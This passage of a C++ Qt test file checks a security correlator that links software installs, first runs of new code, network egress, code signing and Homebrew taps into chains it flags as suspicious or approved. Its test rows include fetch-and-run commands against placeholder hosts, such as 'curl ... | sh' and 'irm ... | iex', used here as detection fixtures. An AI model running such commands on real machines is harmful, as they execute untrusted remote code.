    QCOMPARE(c.firstRun, QStringLiteral("/home/dev/.local/share/lp/lp-agent"));
    QCOMPARE(c.egress, QStringLiteral("198.51.100.66:443"));
    QCOMPARE(c.verdict, Verdict::Suspicious);
    const Evidence *run = evidenceWith(c, QStringLiteral("first_run"));
    QVERIFY(run);
    QVERIFY2(run->reason.contains(QLatin1String("curl -fsSL")), qPrintable(run->reason));
    // The download is the install's package source, not the new code's egress.
    const Evidence *source = evidenceWith(c, QStringLiteral("package_source"));
    QVERIFY(source);
    QCOMPARE(source->target, QStringLiteral("203.0.113.80:443"));
}

// Absence of evidence is never approval: a local package whose binary runs once
// with no network is incomplete; a source the policy names approves it.
void Tst_correlator::approvalNeedsANamedPolicyEntry()
{
    const auto build = [](CaseIndex &index, bool download) {
        Timeline t(index);
        t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/dpkg"), QStringLiteral("dpkg -i ./tool_1.0_amd64.deb"))
            .write(T0 + Second, 1000, QStringLiteral("/usr/local/bin/tool"));
        if (download)
            t.connect(T0 + Second / 2, 1000, QStringLiteral("192.0.2.10"), 80);
        t.exit(T0 + 2 * Second, 1000).exec(T0 + Minute, 2000, 1, QStringLiteral("/usr/local/bin/tool")).build();
    };
    Policy site = Policy::defaults();
    QString error;
    QVERIFY(site.applyAssignment(QStringLiteral("ApprovedRepos=http://192.0.2.10/debian"), &error));
    {
        CaseIndex index;
        build(index, false);
        for (const Policy &policy : {Policy::defaults(), site}) {
            const QList<Chain> chains = correlate(index, policy);
            QCOMPARE(chains.size(), 1);
            QCOMPARE(chains.first().verdict, Verdict::Incomplete);
            QVERIFY(!chains.first().approved);
            QVERIFY2(chains.first().summary.contains(QLatin1String("no policy entry approves")),
                qPrintable(chains.first().summary));
        }
    }
    {
        CaseIndex index;
        build(index, true);
        // Downloaded from an unnamed source, with no allow-list: unapproved, no flag.
        QCOMPARE(correlate(index, Policy::defaults()).first().verdict, Verdict::Incomplete);
        const Chain c = correlate(index, site).first();
        QCOMPARE(c.verdict, Verdict::Approved);
        QCOMPARE(evidenceWith(c, QStringLiteral("package_source"))->approvedBy,
            QStringLiteral("ApprovedRepos http://192.0.2.10/debian"));
        QCOMPARE(evidenceWith(c, QStringLiteral("first_run"))->approvedBy,
            QStringLiteral("ApprovedRepos http://192.0.2.10/debian"));
    }
}

void Tst_correlator::importingTheSameEvidenceTwiceChangesNothing()
{
    const auto chainsOf = [](bool twice, qint64 *dropped) {
        CaseIndex index;
        Timeline t(index);
        maliciousInstall(t, T0 + 12 * Minute);
        if (twice)
            t.importedAgain(2);
        t.build();
        *dropped = index.duplicatesDropped();
        QList<QJsonObject> out;
        for (const Chain &c : correlate(index, Policy::defaults()))
            out << c.toJson();
        return out;
    };
    qint64 once = -1;
    qint64 twice = -1;
    const QList<QJsonObject> first = chainsOf(false, &once);
    const QList<QJsonObject> second = chainsOf(true, &twice);
    QCOMPARE(once, 0);
    QCOMPARE(twice, 21); // every event of the second copy
    QCOMPARE(second, first);
}

// A vendor updater by behaviour: a Windows program asked to update itself runs what
// it staged in temp; the same words mean nothing special on Linux.
void Tst_correlator::updaterByItsArguments_data()
{
    QTest::addColumn<int>("platform");
    QTest::addColumn<QString>("commandLine");
    QTest::addColumn<bool>("seed");
    const int windows = int(Platform::Windows);
    const int linux = int(Platform::Linux);
    QTest::newRow("--scheduledautoupdate")
        << windows << QStringLiteral("launcher.exe --scheduledautoupdate $(Arg0)") << true;
    QTest::newRow("/update") << windows << QStringLiteral("tool.exe /update") << true;
    QTest::newRow("--forcedcheckforupdates=")
        << windows << QStringLiteral("launcher.exe --forcedcheckforupdates=x") << true;
    QTest::newRow("a word, not an argument") << windows << QStringLiteral("tool.exe C:\\updates\\a.txt") << false;
    QTest::newRow("no update") << windows << QStringLiteral("launcher.exe --new-window") << false;
    QTest::newRow("rsync --update on Linux") << linux << QStringLiteral("rsync --update a b") << false;
}

void Tst_correlator::updaterByItsArguments()
{
    QFETCH(int, platform);
    QFETCH(QString, commandLine);
    QFETCH(bool, seed);
    const bool windows = Platform(platform) == Platform::Windows;
    const QString image
        = windows ? QStringLiteral("C:\\Program Files\\Vendor\\launcher.exe") : QStringLiteral("/opt/vendor/launcher");
    const QString staged = windows ? QStringLiteral("C:\\Windows\\Temp\\vendor\\installer.exe")
                                   : QStringLiteral("/tmp/vendor/installer");
    CaseIndex index;
    Timeline(index)
        .platform(Platform(platform))
        .exec(T0, 700, 4, image, commandLine)
        .exec(T0 + Second, 800, 700, staged)
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), seed ? 1 : 0);
    if (seed)
        QCOMPARE(chains.first().firstRun, staged);
}

void Tst_correlator::eventsBeforeTheInstallAreNotItsEgress()
{
    const QString dir = QStringLiteral("C:\\Windows\\Temp\\vendor\\");
    CaseIndex index;
    Timeline(index)
        .platform(Platform::Windows)
        // A pid's connection dated before its own start (clock or logging quirks).
        .connect(T0 - 60 * Minute, 800, QStringLiteral("203.0.113.9"))
        .withGuids(QStringLiteral("{C-2}"))
        .exec(T0, 700, 4, QStringLiteral("C:\\Vendor\\setup.exe"))
        .withGuids(QStringLiteral("{C-1}"))
        .exec(T0 + Second, 800, 700, dir + QStringLiteral("installer.exe"))
        .withGuids(QStringLiteral("{C-2}"), QStringLiteral("{C-1}"))
        .build();
    // Sysmon's GUID makes the early connection the same process's.
    QCOMPARE(index.events().at(0).node, index.events().at(2).node);
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    QVERIFY(chains.first().mismatches.isEmpty());
    QCOMPARE(chains.first().verdict, Verdict::Incomplete);
}

// A worker of the session (started by services, not by the client) that writes and
// runs a program: its tree is the session's.
void Tst_correlator::updateSessionWorkersBelongToIt()
{
    CaseIndex index;
    Timeline(index)
        .platform(Platform::Windows)
        .exec(T0, 2276, 6088, QStringLiteral("C:\\Windows\\System32\\UsoClient.exe"),
            QStringLiteral("usoclient StartScan"))
        .exec(T0 + Minute, 6420, 780, QStringLiteral("C:\\Windows\\WinSxS\\x\\TiWorker.exe"))
        .write(T0 + 2 * Minute, 6420, QStringLiteral("C:\\Program Files\\X\\x.exe"))
        .exec(T0 + 3 * Minute, 7000, 6420, QStringLiteral("C:\\Program Files\\X\\x.exe"))
        .exec(T0 + 4 * Minute, 7100, 7000, QStringLiteral("C:\\Windows\\System32\\cmd.exe"))
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    QVERIFY(chains.first().installerImage.endsWith(QLatin1String("UsoClient.exe")));
    QCOMPARE(chains.first().firstRun, QStringLiteral("C:\\Program Files\\X\\x.exe"));
    QVERIFY(chains.first().flags.contains(Mismatch::UnexpectedChild));
}

// How install scripts fetch code: each form that names its output makes the run of
// that file a first run; piping into an interpreter that runs its own program only
// reads data.
void Tst_correlator::downloadForms_data()
{
    QTest::addColumn<QString>("commandLine");
    QTest::addColumn<bool>("firstRun");
    QTest::newRow("curl -o") << QStringLiteral("curl -o /home/u/bin/tool https://h/t") << true;
    QTest::newRow("curl -fsSLo") << QStringLiteral("curl -fsSLo /home/u/bin/tool https://h/t") << true;
    QTest::newRow("curl --output=") << QStringLiteral("curl --output=/home/u/bin/tool https://h/t") << true;
    QTest::newRow("wget -qO") << QStringLiteral("wget -qO /home/u/bin/tool https://h/t") << true;
    QTest::newRow("wget -O -") << QStringLiteral("wget -O - https://h/t") << false;
    QTest::newRow("curl to stdout") << QStringLiteral("curl -fsSL https://h/t") << false;
}

void Tst_correlator::downloadForms()
{
    QFETCH(QString, commandLine);
    QFETCH(bool, firstRun);
    CaseIndex index;
    Timeline(index)
        .exec(T0, 1000, 900, QStringLiteral("/usr/bin/node"), QStringLiteral("node /usr/bin/npm install x"))
        .exec(T0 + Second, 1001, 1000, QStringLiteral("/usr/bin/curl"), commandLine)
        .exit(T0 + 2 * Second, 1001)
        .exec(T0 + 3 * Second, 1002, 1000, QStringLiteral("/home/u/bin/tool"), QStringLiteral("/home/u/bin/tool"))
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), firstRun ? 1 : 0);
    if (firstRun)
        QCOMPARE(chains.first().firstRun, QStringLiteral("/home/u/bin/tool"));
}

void Tst_correlator::pipedScripts_data()
{
    QTest::addColumn<QString>("commandLine");
    QTest::addColumn<bool>("firstRun");
    QTest::newRow("curl | sh") << QStringLiteral("sh -c curl -fsSL https://h/i.sh | sh") << true;
    QTest::newRow("curl | sudo bash -s --")
        << QStringLiteral("sh -c curl -fsSL https://h/i.sh | sudo bash -s --") << true;
    QTest::newRow("bash -c $(curl)") << QStringLiteral("bash -c \"$(curl -fsSL https://h/install.sh)\"") << true;
    QTest::newRow("irm | iex") << QStringLiteral("powershell -c irm https://h/a.ps1 | iex") << true;
    QTest::newRow("curl | python3 -m json.tool")
        << QStringLiteral("sh -c curl -s https://h/api | python3 -m json.tool") << false;
    QTest::newRow("curl | perl -ne") << QStringLiteral("sh -c curl -s https://h/x | perl -ne print") << false;
}

void Tst_correlator::pipedScripts()
{
    QFETCH(QString, commandLine);
    QFETCH(bool, firstRun);
    CaseIndex index;
    Timeline(index)
        .exec(T0, 1000, 900, QStringLiteral("/usr/bin/node"), QStringLiteral("node /usr/bin/npm install x"))
        .exec(T0 + Second, 1001, 1000, QStringLiteral("/bin/sh"), commandLine)
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), firstRun ? 1 : 0);
}

// A first run that installs a systemd unit: a note on its evidence, no flag.
void Tst_correlator::persistenceIsANote()
{
    CaseIndex index;
    Timeline(index)
        .exec(T0, 1000, 900, QStringLiteral("/usr/bin/dpkg"), QStringLiteral("dpkg -i tool.deb"))
        .write(T0 + Second, 1000, QStringLiteral("/usr/local/bin/tool"))
        .exec(T0 + Minute, 2000, 1, QStringLiteral("/usr/local/bin/tool"))
        .write(T0 + Minute + Second, 2000, QStringLiteral("/etc/systemd/system/tool.service"))
        .write(T0 + Minute + 2 * Second, 2000, QStringLiteral("/var/lib/tool/state"))
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.first();
    const Evidence *note = evidenceWith(c, QStringLiteral("persistence"));
    QVERIFY(note);
    QCOMPARE(note->target, QStringLiteral("/etc/systemd/system/tool.service"));
    QVERIFY(note->flag.isEmpty());
    QVERIFY(c.flags.isEmpty());
    // One note: the state file is no persistence.
    QCOMPARE(std::count_if(
                 c.evidence.cbegin(), c.evidence.cend(), [](const Evidence &e) { return e.role == u"persistence"; }),
        1);
}

namespace {

// A macOS vendor updater (Team ID `updaterTeam`) writes an agent into its app bundle
// under /Applications; the agent runs 5 minutes later with the given signing facts.
void macUpdate(Timeline &t, const QString &updaterTeam, const QString &agentTeam, const QString &agentStatus)
{
    const QString agent = QStringLiteral("/Applications/Vendor.app/Contents/MacOS/vendor-agent");
    t.platform(Platform::MacOS)
        .exec(T0, 500, 1, QStringLiteral("/Applications/Vendor.app/Contents/MacOS/VendorUpdater"))
        .withSigning(updaterTeam, updaterTeam.isEmpty() ? QString() : QStringLiteral("Valid"))
        .write(T0 + Second, 500, agent)
        .exit(T0 + 2 * Second, 500)
        .exec(T0 + 5 * Minute, 600, 1, agent)
        .withSigning(agentTeam, agentStatus);
}

const Evidence *evidenceWithRole(const Chain &c, const QString &role)
{
    for (const Evidence &x : c.evidence) {
        if (x.role == role)
            return &x;
    }
    return nullptr;
}

} // namespace

void Tst_correlator::macTeamIdAndSignature_data()
{
    QTest::addColumn<QString>("updaterTeam");
    QTest::addColumn<QString>("agentTeam");
    QTest::addColumn<QString>("agentStatus");
    QTest::addColumn<QString>("allowed"); // AllowedTeamIDs
    QTest::addColumn<QString>("flag"); // on the first run, or empty
    QTest::addColumn<QString>("approvedBy");

    QTest::newRow("the updater's own team, no list") << "VNDR123456"
                                                     << "VNDR123456"
                                                     << "Valid"
                                                     << ""
                                                     << ""
                                                     << "";
    QTest::newRow("another team than the updater's, no list") << "VNDR123456"
                                                              << "EVIL987654"
                                                              << "Valid"
                                                              << ""
                                                              << "team_id_not_allowed"
                                                              << "";
    QTest::newRow("another team, allowed") << "VNDR123456"
                                           << "EVIL987654"
                                           << "Valid"
                                           << "EVIL987654"
                                           << ""
                                           << "AllowedTeamIDs EVIL987654";
    QTest::newRow("own team, but the list names others") << "VNDR123456"
                                                         << "VNDR123456"
                                                         << "Valid"
                                                         << "OTHR000000"
                                                         << "team_id_not_allowed"
                                                         << "";
    QTest::newRow("own team, listed") << "VNDR123456"
                                      << "VNDR123456"
                                      << "Valid"
                                      << "OTHR000000,VNDR123456"
                                      << ""
                                      << "AllowedTeamIDs VNDR123456";
    // Apple's platform binaries carry no Team ID: nothing to compare with.
    QTest::newRow("installer without a team") << ""
                                              << "EVIL987654"
                                              << "Valid"
                                              << ""
                                              << ""
                                              << "";
    QTest::newRow("no team logged") << "VNDR123456"
                                    << ""
                                    << "Valid"
                                    << ""
                                    << ""
                                    << "";
    QTest::newRow("ad-hoc signed") << "VNDR123456"
                                   << ""
                                   << "Ad-hoc"
                                   << ""
                                   << "unsigned_module"
                                   << "";
    QTest::newRow("unsigned, though its team is allowed") << "VNDR123456"
                                                          << "VNDR123456"
                                                          << "Unsigned"
                                                          << "VNDR123456"
                                                          << "unsigned_module"
                                                          << "";
    QTest::newRow("invalid signature") << "VNDR123456"
                                       << "VNDR123456"
                                       << "Invalid"
                                       << ""
                                       << "unsigned_module"
                                       << "";
}

// AN0864's signing mismatches on the code an update brings: unsigned or ad-hoc code,
// a Team ID outside AllowedTeamIDs, or (no list yet) another team than the updater's.
void Tst_correlator::macTeamIdAndSignature()
{
    QFETCH(QString, updaterTeam);
    QFETCH(QString, agentTeam);
    QFETCH(QString, agentStatus);
    QFETCH(QString, allowed);
    QFETCH(QString, flag);
    QFETCH(QString, approvedBy);
    CaseIndex index;
    Timeline t(index);
    macUpdate(t, updaterTeam, agentTeam, agentStatus);
    t.build();
    Policy policy = Policy::defaults();
    QString error;
    QVERIFY2(policy.set(QStringLiteral("AllowedTeamIDs"), allowed, false, &error), qPrintable(error));
    const QList<Chain> chains = correlate(index, policy);
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.first();
    QCOMPARE(c.platform, Platform::MacOS);
    QCOMPARE(c.firstRun, QStringLiteral("/Applications/Vendor.app/Contents/MacOS/vendor-agent"));
    const Evidence *run = evidenceWithRole(c, QStringLiteral("first_run"));
    QVERIFY(run);
    QCOMPARE(run->flag, flag);
    QCOMPARE(run->approvedBy, approvedBy);
    QCOMPARE(c.flags.contains(flag), !flag.isEmpty());
    QCOMPARE(c.verdict,
        flag.isEmpty() ? (approvedBy.isEmpty() ? Verdict::Incomplete : Verdict::Approved) : Verdict::Suspicious);
    if (!agentTeam.isEmpty() && agentStatus == u"Valid")
        QVERIFY2(run->reason.contains(agentTeam), qPrintable(run->reason));
}

void Tst_correlator::brewTaps_data()
{
    QTest::addColumn<QString>("image");
    QTest::addColumn<QString>("commandLine");
    QTest::addColumn<QStringList>("taps"); // package_source targets, in order
    QTest::addColumn<bool>("flagged");

    const QString brew = QStringLiteral("/opt/homebrew/bin/brew");
    QTest::newRow("core formula") << brew << "brew install wget" << QStringList {QStringLiteral("homebrew/core")}
                                  << false;
    QTest::newRow("cask") << brew << "brew install --cask firefox" << QStringList {QStringLiteral("homebrew/cask")}
                          << false;
    QTest::newRow("unlisted tap") << brew << "brew install evil/tools/helper"
                                  << QStringList {QStringLiteral("evil/tools")} << true;
    QTest::newRow("listed tap, other case")
        << brew << "brew install Homebrew/Core/wget" << QStringList {QStringLiteral("Homebrew/Core")} << false;
    QTest::newRow("two sources") << brew << "brew install wget evil/tools/helper"
                                 << QStringList {QStringLiteral("homebrew/core"), QStringLiteral("evil/tools")} << true;
    QTest::newRow("tap cloned from a URL of its own")
        << brew << "brew tap evil/tools https://example.invalid/tools.git"
        << QStringList {QStringLiteral("https://example.invalid/tools.git")} << true;
    QTest::newRow("listed tap cloned from elsewhere")
        << brew << "brew tap homebrew/core https://example.invalid/core.git"
        << QStringList {QStringLiteral("https://example.invalid/core.git")} << true;
    QTest::newRow("listed tap from its usual home")
        << brew << "brew tap homebrew/core https://github.com/Homebrew/homebrew-core.git"
        << QStringList {QStringLiteral("homebrew/core")} << false;
    QTest::newRow("unlisted tap, no URL")
        << brew << "brew tap evil/tools" << QStringList {QStringLiteral("evil/tools")} << true;
    QTest::newRow("the repository's homebrew- prefix")
        << brew << "brew install homebrew/homebrew-core/wget" << QStringList {QStringLiteral("homebrew/core")} << false;
    QTest::newRow("formula file") << brew << "brew install ./helper.rb" << QStringList {QStringLiteral("./helper.rb")}
                                  << true;
    // brew is a shell script: Endpoint Security logs the shell as the image.
    QTest::newRow("brew run by its shell") << "/bin/bash"
                                           << "/bin/bash /opt/homebrew/bin/brew install evil/tools/helper"
                                           << QStringList {QStringLiteral("evil/tools")} << true;
    QTest::newRow("not an install") << brew << "brew list" << QStringList() << false;
}

// AN0864: a tap outside BrewTapsAllowList is a package source the site did not approve.
void Tst_correlator::brewTaps()
{
    QFETCH(QString, image);
    QFETCH(QString, commandLine);
    QFETCH(QStringList, taps);
    QFETCH(bool, flagged);
    CaseIndex index;
    Timeline t(index);
    t.platform(Platform::MacOS)
        .exec(T0, 700, 1, image, commandLine)
        .write(T0 + Second, 700, QStringLiteral("/opt/homebrew/bin/helper"))
        .exit(T0 + 2 * Second, 700)
        .exec(T0 + Minute, 701, 1, QStringLiteral("/opt/homebrew/bin/helper"));
    t.build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.first();
    QStringList seen;
    for (const Evidence &x : c.evidence) {
        if (x.role != u"package_source")
            continue;
        seen << x.target;
        QCOMPARE(x.flag.isEmpty(), !x.approvedBy.isEmpty());
        if (!x.approvedBy.isEmpty())
            QVERIFY2(x.approvedBy.startsWith(u"BrewTapsAllowList "), qPrintable(x.approvedBy));
    }
    QCOMPARE(seen, taps);
    QCOMPARE(c.flags.contains(QStringLiteral("tap_not_approved")), flagged);
    // A listed tap approves the code it brought; an unlisted one makes the chain suspicious.
    if (flagged)
        QCOMPARE(c.verdict, Verdict::Suspicious);
    else if (!taps.isEmpty())
        QCOMPARE(c.verdict, Verdict::Approved);
}

void Tst_correlator::gatekeeperComplaintJoinsByPath_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<qint64>("at");
    QTest::addColumn<bool>("joined");

    const qint64 window = 90 * Minute;
    QTest::newRow("the bundle") << "/Applications/Vendor.app" << 6 * Minute << true;
    QTest::newRow("the binary") << "/Applications/Vendor.app/Contents/MacOS/vendor-agent" << 6 * Minute << true;
    QTest::newRow("a name the binary's begins with")
        << "/Applications/Vendor.app/Contents/MacOS/vendor" << 6 * Minute << false;
    QTest::newRow("elsewhere") << "/Applications/Other.app" << 6 * Minute << false;
    QTest::newRow("on the window's end") << "/Applications/Vendor.app" << window << true;
    QTest::newRow("the bundle with a trailing slash") << "/Applications/Vendor.app/" << 6 * Minute << true;
    // APFS names compare case-insensitively.
    QTest::newRow("the bundle in other case") << "/applications/VENDOR.app" << 6 * Minute << true;
    QTest::newRow("one microsecond later") << "/Applications/Vendor.app" << window + 1 << false;
    QTest::newRow("before the install") << "/Applications/Vendor.app" << qint64(-1) << false;
}

// Gatekeeper and AMFI complain from their own daemons: the complaint joins the chain by
// the file it names, within the window (AN0864 stage 3).
void Tst_correlator::gatekeeperComplaintJoinsByPath()
{
    QFETCH(QString, path);
    QFETCH(qint64, at);
    QFETCH(bool, joined);
    CaseIndex index;
    Timeline t(index);
    t.platform(Platform::MacOS).exec(T0 - 10 * Minute, 90, 1, QStringLiteral("/usr/libexec/syspolicyd"));
    macUpdate(t, QStringLiteral("VNDR123456"), QStringLiteral("VNDR123456"), QStringLiteral("Valid"));
    t.fault(T0 + at, 90, path, QStringLiteral("VNDR123456"));
    t.build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.first();
    bool found = false;
    for (const Evidence &x : c.evidence) {
        if (x.target == path && x.role == u"module") {
            found = true;
            QCOMPARE(x.flag, QStringLiteral("unsigned_module"));
            QVERIFY2(x.reason.contains(u"syspolicyd"), qPrintable(x.reason));
        }
    }
    QCOMPARE(found, joined);
    QCOMPARE(c.flags.contains(QStringLiteral("unsigned_module")), joined);
}

void Tst_correlator::driftShowsItsHashes()
{
    // hash_drift: the module's evidence carries the hashes, old → new, and the note;
    // its role names the drift, not "(Valid)".
    const QString dll = QStringLiteral("C:\\Program Files\\Orion\\Core.BusinessLayer.dll");
    const QString host = QStringLiteral("C:\\Program Files\\Orion\\BusinessLayerHost.exe");
    const QString vendor = QStringLiteral("Vendor Ltd");
    CaseIndex index;
    Timeline t(index);
    t.platform(Platform::Windows)
        .exec(T0 - 60 * Minute, 300, 4, host)
        .load(T0 - 59 * Minute, 300, dll, vendor, QStringLiteral("Valid"), QStringLiteral("SHA256=AA"))
        .exit(T0 - 30 * Minute, 300)
        .exec(T0, 700, 4, QStringLiteral("C:\\Windows\\System32\\msiexec.exe"), QStringLiteral("msiexec /i orion.msp"))
        .write(T0 + Second, 700, dll)
        .exit(T0 + Minute, 700)
        .exec(T0 + 2 * Minute, 310, 4, host)
        .load(T0 + 2 * Minute + Second, 310, dll, vendor, QStringLiteral("Valid"), QStringLiteral("SHA256=BB"))
        .build();
    const QList<Chain> chains = correlate(index, Policy::defaults());
    QCOMPARE(chains.size(), 1);
    const Chain &c = chains.front();
    QCOMPARE(c.notes, QStringList {Mismatch::HashDrift});
    const Evidence *load = evidenceWith(c, QStringLiteral("module"), QStringLiteral("BusinessLayer.dll"));
    QVERIFY(load);
    QCOMPARE(load->hashes, QStringLiteral("SHA256=AA \u2192 SHA256=BB"));
    QCOMPARE(load->note, Mismatch::HashDrift);
    QCOMPARE(load->flag, QString());
    QCOMPARE(load->signatureStatus, QStringLiteral("Valid"));
    const ChainProcess *p = c.process(load->node);
    QVERIFY(p);
    const QString roles = p->roles.join(u'|');
    QVERIFY2(!roles.contains(QLatin1String("(Valid)")), qPrintable(roles));
    QVERIFY2(roles.contains(QStringLiteral("loaded %1 (%2)").arg(dll, mismatchLabel(Mismatch::HashDrift))),
        qPrintable(roles));
    // The JSON contract keeps its keys.
    QCOMPARE(load->toJson().value(QStringLiteral("hashes")).toString(), load->hashes);
}

void Tst_correlator::flaggedModuleRoleNamesTheFlag()
{
    // A validly signed module whose signer no ApprovedSigners entry names: the role says
    // why it is flagged, not "(Valid)".
    CaseIndex index;
    Timeline t(index);
    updaterWritesLibrary(t, QStringLiteral("Valid"), QStringLiteral("Someone Else LLC"));
    t.build();
    Policy policy = Policy::defaults();
    policy.approvedSigners = {QStringLiteral("Vendor Ltd")};
    policy.compile();
    const QList<Chain> chains = correlate(index, policy);
    QCOMPARE(chains.size(), 1);
    const Evidence *load = evidenceWith(chains.front(), QStringLiteral("module"));
    QVERIFY(load);
    QCOMPARE(load->flag, Mismatch::SignerNotApproved);
    QCOMPARE(load->mark(), ChainMark::Mismatch);
    const QString roles = chains.front().process(load->node)->roles.join(u'|');
    QVERIFY2(!roles.contains(QLatin1String("(Valid)")), qPrintable(roles));
    QVERIFY2(roles.contains(mismatchLabel(Mismatch::SignerNotApproved)), qPrintable(roles));
}

void Tst_correlator::destinationsWithoutAPort_data()
{
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("ip");
    QTest::addColumn<int>("port");
    QTest::addColumn<QString>("expected");
    // The bound is 0: -1 is "no port" (DNS), 0 and up are ports.
    QTest::newRow("dns, no port") << "raw.codehost.example"
                                  << "" << -1 << "raw.codehost.example";
    QTest::newRow("port -2") << "raw.codehost.example"
                             << "" << -2 << "raw.codehost.example";
    QTest::newRow("port 0") << "raw.codehost.example"
                            << "" << 0 << "raw.codehost.example:0";
    QTest::newRow("port 1") << "raw.codehost.example"
                            << "" << 1 << "raw.codehost.example:1";
    QTest::newRow("ip, no port") << ""
                                 << "203.0.113.9" << -1 << "203.0.113.9";
    QTest::newRow("ip, 443") << ""
                             << "203.0.113.9" << 443 << "203.0.113.9:443";
    QTest::newRow("ipv6, no port") << ""
                                   << "2001:db8::1" << -1 << "[2001:db8::1]";
    QTest::newRow("ipv6, 443") << ""
                               << "2001:db8::1" << 443 << "[2001:db8::1]:443";
    QTest::newRow("host and ip, no port") << "a.example"
                                          << "192.0.2.1" << -1 << "a.example (192.0.2.1)";
}

void Tst_correlator::destinationsWithoutAPort()
{
    QFETCH(QString, host);
    QFETCH(QString, ip);
    QFETCH(int, port);
    QFETCH(QString, expected);
    QCOMPARE(formatDestination(host, ip, port), expected);
}

void Tst_correlator::dnsEgressHasNoPort()
{
    // A DNS query names a host and no port: the chain's egress, its evidence and its
    // missing stage's nearest miss never read "host:-1".
    for (const qint64 at : {T0 + 12 * Minute, T0 + 3 * 60 * Minute}) {
        CaseIndex index;
        Timeline t(index);
        maliciousInstall(t, T0 + 12 * Minute);
        t.dns(at, 2003, QStringLiteral("raw.codehost.example"), {});
        t.build();
        const QList<Chain> chains = correlate(index, Policy::defaults());
        QCOMPARE(chains.size(), 1);
        const Chain &c = chains.front();
        QVERIFY(!QJsonDocument(c.toJson()).toJson().contains(":-1"));
        bool seen = false;
        for (const Evidence &x : c.evidence) {
            QVERIFY2(!x.target.contains(QLatin1String(":-1")), qPrintable(x.target));
            QVERIFY2(!x.reason.contains(QLatin1String(":-1")), qPrintable(x.reason));
            seen |= x.target == u"raw.codehost.example";
        }
        QCOMPARE(seen, at < T0 + 90 * Minute);
        for (const MissingStage &m : c.missingStages)
            QVERIFY2(!m.reason.contains(QLatin1String(":-1")), qPrintable(m.reason));
        QVERIFY2(!c.summary.contains(QLatin1String(":-1")), qPrintable(c.summary));
    }
}

void Tst_correlator::approvedEgressIsAnApprovalNotAMissingStage()
{
    // The first run reaches an approved host in the window: that is an approval
    // (approvedBy names the entry), never a missing egress. A late, unapproved
    // connection stays the nearest miss of what is missing.
    for (const bool late : {false, true}) {
        CaseIndex index;
        Timeline t(index);
        t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/apt-get"), QStringLiteral("apt-get install qwik"))
            .write(T0 + Second, 1000, QStringLiteral("/usr/local/bin/qwik"))
            .exit(T0 + 2 * Second, 1000)
            .exec(T0 + 5 * Minute, 2001, 1, QStringLiteral("/usr/local/bin/qwik"))
            .dns(T0 + 6 * Minute, 2001, QStringLiteral("updates.vendor.example"), {});
        if (late)
            t.connect(T0 + 3 * 60 * Minute, 2001, QStringLiteral("198.51.100.7"), 443);
        t.build();
        Policy policy = Policy::defaults();
        policy.approvedUpdateHosts = {QStringLiteral("updates.vendor.example")};
        policy.compile();
        const QList<Chain> chains = correlate(index, policy);
        QCOMPARE(chains.size(), 1);
        const Chain &c = chains.front();
        const Evidence *egress = evidenceWith(c, QStringLiteral("egress"));
        QVERIFY(egress);
        QCOMPARE(egress->target, QStringLiteral("updates.vendor.example"));
        QCOMPARE(egress->approvedBy, QStringLiteral("ApprovedUpdateHosts updates.vendor.example"));
        QCOMPARE(egress->mark(), ChainMark::Approved);
        QCOMPARE(approvalLabel(egress->approvedBy),
            QStringLiteral("approved by ApprovedUpdateHosts entry updates.vendor.example"));
        for (const MissingStage &m : c.missingStages) {
            QVERIFY2(!m.reason.contains(QLatin1String("updates.vendor.example")), qPrintable(m.reason));
            QVERIFY2(!m.reason.contains(QLatin1String("Approved")), qPrintable(m.reason));
        }
        for (const QString &m : c.missing)
            QVERIFY2(!m.contains(QLatin1String("updates.vendor.example")), qPrintable(m));
        if (late) {
            QCOMPARE(c.missingStages.size(), 1);
            const MissingStage &m = c.missingStages.first();
            QCOMPARE(m.stage, Stage::Egress);
            QVERIFY(m.nearestEventId >= 0);
            QCOMPARE(m.gapUs, 3 * 60 * Minute);
            QVERIFY2(m.reason.contains(QLatin1String("198.51.100.7:443")), qPrintable(m.reason));
            QCOMPARE(c.verdict, Verdict::Incomplete);
        } else {
            QVERIFY(c.missingStages.isEmpty());
            QCOMPARE(c.verdict, Verdict::Approved);
            // Its first run was approved by no entry of its own: the process is in the
            // chain, not approved as a whole; the egress itself is.
            QCOMPARE(c.process(egress->node)->mark, ChainMark::InChain);
        }
    }
}

void Tst_correlator::seedEventIdSurvivesAWindowChange()
{
    // Chain ids are ranks; the seed event is the chain's identity, under which the
    // analyst's triage is kept. Changing the window changes what the chain holds, not
    // which install seeded it.
    CaseIndex index;
    Timeline t(index);
    maliciousInstall(t, T0 + 3 * 60 * Minute);
    t.exec(T0 + 30 * Minute, 3000, 900, QStringLiteral("/usr/bin/apt-get"), QStringLiteral("apt-get install other"))
        .write(T0 + 30 * Minute + Second, 3000, QStringLiteral("/usr/local/bin/other"))
        .exec(T0 + 40 * Minute, 3001, 1, QStringLiteral("/usr/local/bin/other"))
        .build();
    Correlator correlator(index);
    Policy policy = Policy::defaults();
    const QList<Chain> narrow = correlator.run(policy);
    policy.timeWindowUs = 4 * 60 * Minute;
    policy.compile();
    const QList<Chain> wide = correlator.run(policy);
    QCOMPARE(narrow.size(), 2);
    QCOMPARE(wide.size(), 2);
    const auto byInstaller = [](const QList<Chain> &chains, const QString &installer) {
        return *std::find_if(chains.begin(), chains.end(), [&](const Chain &c) { return c.installer == installer; });
    };
    for (const QString &installer : {QStringLiteral("apt-get install qwik"), QStringLiteral("apt-get install other")}) {
        const Chain a = byInstaller(narrow, installer);
        const Chain b = byInstaller(wide, installer);
        QVERIFY(a.seedEventId >= 0);
        QCOMPARE(a.seedEventId, b.seedEventId);
    }
    QVERIFY(narrow.first().seedEventId != narrow.last().seedEventId);
